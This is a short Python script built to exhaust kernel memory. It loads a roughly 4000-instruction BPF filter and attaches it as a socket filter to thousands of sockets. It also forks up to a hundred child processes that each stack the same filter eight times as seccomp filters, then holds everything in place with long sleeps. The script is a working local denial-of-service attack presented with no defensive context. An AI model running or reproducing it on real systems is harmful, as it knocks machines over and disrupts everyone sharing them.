# Attaches programs to sockets and to children, as long and as many as go: the kernel keeps them in
# memory of which the machine has one stock.
import ctypes, os, socket, struct, time

libc = ctypes.CDLL(None, use_errno=True)
LOAD_LENGTH, RETURN_ALL = (0x80, 0, 0, 0), (0x06, 0, 0, 0x7FFF0000)
code = b"".join(struct.pack("HBBI", *one) for one in [LOAD_LENGTH] * 4000 + [RETURN_ALL])
held_code = ctypes.create_string_buffer(code)
program = struct.pack("HxxxxxxQ", len(code) // 8, ctypes.addressof(held_code))
held = []

def sockets():
    for _ in range(4000):
        try:
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            held.append(one)
            for option in (26, 51):
                one.setsockopt(socket.SOL_SOCKET, option, program)
        except OSError:
            pass

def children():
    if os.fork():
        return
    wanted = ctypes.create_string_buffer(program)
    for _ in range(8):
        libc.prctl(22, 2, wanted, 0, 0)
        libc.syscall(317, 1, 0, wanted)
    time.sleep(600)

sockets()
for _ in range(100):
    try:
        children()
    except OSError:
        break
time.sleep(600)
